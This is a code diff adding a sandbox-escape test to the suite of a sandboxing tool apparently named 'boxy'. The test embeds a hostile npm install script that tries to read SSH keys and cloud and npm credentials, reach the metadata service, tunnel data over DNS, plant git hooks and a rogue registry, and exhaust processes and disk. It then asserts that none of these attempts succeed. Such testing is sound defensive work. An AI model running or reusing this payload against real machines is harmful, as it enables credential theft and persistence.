@@ -23,9 +23,11 @@ from __future__ import annotations
 
 import ipaddress
 import json
+import os
 import re
 import shutil
 import socket
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -483,3 +485,108 @@ def test_npm_cache_is_per_project_and_a_second_ci_downloads_nothing(boxy: Boxy, 
         assert len(_cache_dirs(user) - before) == 2
     finally:
         shutil.rmtree(other.workdir, ignore_errors=True)
+
+
+# --- the hostile package, end to end ---------------------------------------------------------
+
+HOSTILE = r"""'use strict';
+// A postinstall that tries everything in DESIGN.md's threat model at once, and says
+// ESCAPED:<what> for anything that works. HOSTILE-RAN proves it ran at all.
+const fs = require('fs'), path = require('path'), net = require('net'), dns = require('dns');
+const cp = require('child_process'), os = require('os');
+const t = JSON.parse(fs.readFileSync(path.join(__dirname, 'targets.json'), 'utf8'));
+const root = process.env.INIT_CWD;
+const out = [];
+const say = (s) => { out.push(s); console.log(s); };
+say('HOSTILE-RAN');
+for (const p of ['.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.npmrc', '.config/gcloud']) {
+  try { fs.readFileSync(path.join(t.home, p)); say('ESCAPED:read-' + p); } catch (e) {}
+}
+for (const [k, v] of Object.entries(process.env)) if (String(v).includes(t.marker)) say('ESCAPED:env-' + k);
+for (const p of ['.env', '.npmrc']) {
+  try { if (fs.readFileSync(path.join(root, p), 'utf8').includes(t.marker)) say('ESCAPED:project-' + p); }
+  catch (e) {}
+}
+const tries = [];
+const connect = (label, opts) => tries.push(new Promise((done) => {
+  const s = net.connect(opts);
+  s.setTimeout(4000, () => { s.destroy(); done(); });
+  s.on('connect', () => { if (label !== 'agent') { s.write('GET / HTTP/1.0\r\n\r\n'); } });
+  s.on('data', () => { say('ESCAPED:' + label); s.destroy(); done(); });
+  s.on('error', () => done());
+  s.on('close', () => done());
+}));
+connect('agent', {path: t.agent});
+connect('metadata', {host: '169.254.169.254', port: 80});
+connect('lan', {host: '192.168.1.1', port: 80});
+tries.push(new Promise((done) => dns.lookup(t.extra, (err, addr) => {
+  if (!err) { say('ESCAPED:resolved-' + t.extra); connect('extra', {host: addr, port: 443}); }
+  done();
+})));
+tries.push(new Promise((done) => dns.resolveTxt(`${Buffer.from('exfil').toString('hex')}.${t.extra}`,
+  (err) => { if (!err) say('ESCAPED:dns-tunnel'); done(); })));
+for (const [label, fn] of [
+  ['git-hook', () => fs.writeFileSync(path.join(root, '.git/hooks/pre-commit'), '#!/bin/sh\n')],
+  ['git-config', () => fs.appendFileSync(path.join(root, '.git/config'), '[core]\n\thooksPath = /tmp\n')],
+]) { try { fn(); say('ESCAPED:' + label); } catch (e) {} }
+// these land (the work directory is writable); the next run must not be any wider
+// (the project .npmrc is a read-only stand-in: its write fails, .boxy.yaml's lands)
+for (const [p, text] of [['.boxy.yaml', 'net: public\nallow_hosts: ["' + t.extra + '"]\n'],
+                         ['.npmrc', '\nregistry=https://' + t.extra + '/\n']]) {
+  try { fs.appendFileSync(path.join(root, p), text); say('planted ' + p); } catch (e) {}
+}
+let kids = 0;
+try { for (; kids < 5000; kids++) cp.spawn('sleep', ['30'], {stdio: 'ignore'}).on('error', () => {}); }
+catch (e) {}
+try { const big = Buffer.alloc(64 << 20); for (let i = 0; i < 256; i++) fs.writeFileSync(`/tmp/fill${i}`, big); }
+catch (e) { say('filled-tmp ' + e.code); }
+Promise.all(tries).then(() => {
+  fs.writeFileSync(path.join(root, 'hostile-report.json'), JSON.stringify(out));
+  process.exit(0);
+});
+"""
+
+
+def test_the_hostile_package_gets_nothing_and_the_next_run_is_no_wider(boxy: Boxy, user: User,
+                                                                       tmp_path: Path) -> None:
+    host, flags = npm_setup(boxy)
+    extra = extra_host(boxy.user, [host], ["pip_index", "pip_files"])
+    marker = "boxyHOSTILEmarker"
+    subprocess.run(["git", "init", "-q", str(boxy.workdir)], check=True)
+    write(boxy, ".env", f"NPM_TOKEN={marker}\n")
+    write(boxy, ".npmrc", f"//{host}/:_authToken={marker}\n")
+    agent = user.home / f".boxy-agent-{os.getpid()}.sock"
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(agent))
+    server.listen()
+    os.chown(agent, user.uid, user.gid)
+    write(boxy, "hostile-pkg/package.json", json.dumps({
+        "name": "boxy-hostile", "version": "1.0.0",
+        "scripts": {"preinstall": "node hostile.js", "postinstall": "node hostile.js"}}) + "\n")
+    write(boxy, "hostile-pkg/hostile.js", HOSTILE)
+    write(boxy, "hostile-pkg/targets.json", json.dumps(
+        {"home": str(user.home), "marker": marker, "agent": str(agent), "extra": extra}))
+    env = {"NPM_TOKEN": marker, "GITHUB_TOKEN": marker, "SSH_AUTH_SOCK": str(agent)}
+    try:
+        r = boxy.run(*flags, "--pids", "256", "--memory", "512MiB",
+                     cmd=["npm", "install", "--foreground-scripts",
+                     "--no-audit", "--no-fund", "./hostile-pkg", SMALL_NPM],
+                     timeout=TIMEOUT, input=b"", extra_env=env)
+        check_npm_installed(boxy, r, host)
+        assert "HOSTILE-RAN" in out(r), f"the hostile script never ran\n{both(r)}"
+        report = json.loads((boxy.workdir / "hostile-report.json").read_text())
+        assert not [x for x in report if x.startswith("ESCAPED")], f"{report}\n{both(r)}"
+        assert "filled-tmp ENOSPC" in report, report  # the scratch tmpfs is bounded
+        assert "ESCAPED" not in out(r) + err(r), both(r)
+        first = policy_record(audit(boxy))
+        # what it planted for the next run changes nothing about that run
+        (boxy.workdir / "audit.jsonl").unlink()
+        r2 = boxy.run(*flags, cmd=["true"], timeout=TIMEOUT, input=b"")
+        assert r2.returncode == 0, both(r2)
+        second = policy_record(audit(boxy))
+        assert (second["mode"], second["allow_hosts"]) == (first["mode"], first["allow_hosts"])
+        assert not (boxy.workdir / ".git/hooks/pre-commit").exists()
+    finally:
+        server.close()
+        agent.unlink(missing_ok=True)
+        subprocess.run(["pkill", "-u", str(user.uid), "-x", "sleep"], check=False)
